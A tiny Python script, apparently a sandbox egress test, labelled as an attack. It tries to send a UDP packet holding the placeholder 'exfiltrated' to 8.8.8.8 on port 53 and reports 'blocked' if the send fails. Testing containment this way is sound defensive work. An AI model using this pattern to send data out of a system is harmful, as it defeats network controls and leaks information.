# ATTACK net-udp: fire-and-forget exfiltration.
import socket as _socket

try:
    _s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    _s.sendto(b"exfiltrated", ("8.8.8.8", 53))
except OSError as _exc:
    raise SystemExit(f"ATTACK net-udp blocked: {_exc}")
